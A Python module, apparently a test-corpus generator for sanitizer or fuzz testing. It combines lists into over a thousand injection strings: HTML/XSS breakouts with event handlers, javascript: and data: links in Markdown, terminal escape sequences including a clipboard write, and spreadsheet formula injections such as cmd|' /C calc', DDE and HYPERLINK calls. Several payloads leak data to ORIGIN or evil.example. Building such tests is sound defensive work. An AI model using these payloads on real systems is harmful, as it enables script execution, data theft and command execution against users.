"""Hostile texts by construction: every way out of a context with every thing that acts, in several spellings (X11).

`payloads` holds the ones that were written by hand. These are products of small lists, so that no combination is forgotten:
more than a thousand texts for pages, Markdown, terminals and spreadsheets. ORIGIN stands for a server that would notice.
"""

from itertools import product
from urllib.parse import quote

from payloads import ACTION

WAYS_OUT = (
    *("", '">', "'>", "`>", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</svg>"),
    *("-->", "]]>", "*/", "\n\n", "\\", "</details></li></ol>", "<!--", "<plaintext>"),
)
ELEMENTS = (
    f"<script>{ACTION}</script>",
    "<script src=ORIGIN/leak.js></script>",
    f"<img src=x onerror={ACTION}>",
    "<img src=ORIGIN/leak.png>",
    f"<svg><animate onbegin={ACTION} attributeName=x dur=1s>",
    f"<body onload={ACTION}>",
    f"<details open ontoggle={ACTION}>",
    f"<input autofocus onfocus={ACTION}>",
    f"<video><source onerror={ACTION}></video>",
    f"<iframe srcdoc='<script>parent.{ACTION}</script>'></iframe>",
    f"<a href='javascript:{ACTION}' id=island>x</a>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ACTION}>x</math>",
    "<meta http-equiv=refresh content='0;url=ORIGIN/leak'>",
    "<base href=ORIGIN/>",
    "<link rel=stylesheet href=ORIGIN/leak.css>",
    "<style>@import 'ORIGIN/leak.css'</style>",
    f"<form action=ORIGIN/leak><button formaction=javascript:{ACTION} autofocus>x</button></form>",
    "<object data=ORIGIN/leak></object><embed src=ORIGIN/leak>",
    f"<marquee onstart={ACTION}>x</marquee>",
    f"<xss style='animation-name:x' onanimationstart={ACTION}></xss>",
)
EVENTS = (
    *("click", "error", "load", "focus", "blur", "mouseover", "mouseenter", "pointerrawupdate", "wheel", "scroll", "toggle"),
    *("beforetoggle", "input", "change", "submit", "keydown", "copy", "paste", "drag", "animationstart", "transitionend"),
    *("hashchange", "message", "pageshow", "beforeprint", "afterprint", "resize", "securitypolicyviolation"),
)
QUOTES = ('"', "'", "")
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;", "javascript&#58;"),
    *("vbscript:", "data:text/html,", "file:///", "//evil.example/", "https://evil.example/", "blob:", "mailto:x@evil.example?"),
)
LINKS = (
    *("[x]({})", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", '[x](<{}> "t")', "[![x]({})](x)", "{}", "x\n\n[y]: {}"),
    *("<a href='{}'>x</a>", '" href="{}"'),
)
STARTS = ("\x1b[", "\x9b", "\x1b]", "\x9d", "\x1bP", "\x90", "\x1b_", "\x9f", "\x1b^", "\x9e", "\x1bX", "\x98", "\x1b")
BODIES = (
    *("31m", "2J", "H", "?1049h", "6n", "c", "0;title", "8;;https://evil.example", "52;c;ZXZpbA==", "9;evil", "777;notify;a;b"),
    *("4;1;?", "1337;File=name=x", "+q544e", "$qm", "20t", "!p", "?2004l"),
)
ENDS = ("\x07", "\x1b\\")
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', "'=", "|", "%", "\uff1d", "\uff0b", "\ufeff=", "\u200b=")
FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("ORIGIN/leak?"&A1,"x")', 'WEBSERVICE("ORIGIN/leak")', "1+1", 'DDE("x";"y";"z")')


def _spelled(text: str) -> tuple[str, ...]:
    """The same text as other readers would decode it."""
    return (
        quote(text),
        "".join(f"&#{ord(each)};" for each in text),
        "".join(f"&#x{ord(each):x}" for each in text),
        "".join(f"\\u{ord(each):04x}" for each in text if ord(each) < 0x10000),
        "".join(f"\\x{ord(each):02x}" for each in text if ord(each) < 256),
        text.translate({code: code + 0xFEE0 for code in range(0x21, 0x7F)}),
        text.replace("<", "<\x00").replace("script", "scr\x00ipt"),
        text.replace("<", "+ADw-").replace(">", "+AD4-"),
        text.swapcase(),
    )


PAGES = (
    *(f"{way}{element}" for way, element in product(WAYS_OUT, ELEMENTS)),
    *(f"x{mark} on{event}={mark}{ACTION}{mark} x={mark}" for event, mark in product(EVENTS, QUOTES)),
    *(each for element in ELEMENTS[:6] for each in _spelled(element)),
)
MARKDOWN = tuple(link.format(f"{scheme}{ACTION}") for link, scheme in product(LINKS, SCHEMES))
TERMINAL = tuple(f"a{start}{body}{end}b" for start, body, end in product(STARTS, BODIES, ENDS))
SHEETS = tuple(f"{lead}{formula}" for lead, formula in product(LEADS, FORMULAS))

GRID = (*PAGES, *MARKDOWN, *TERMINAL, *SHEETS)
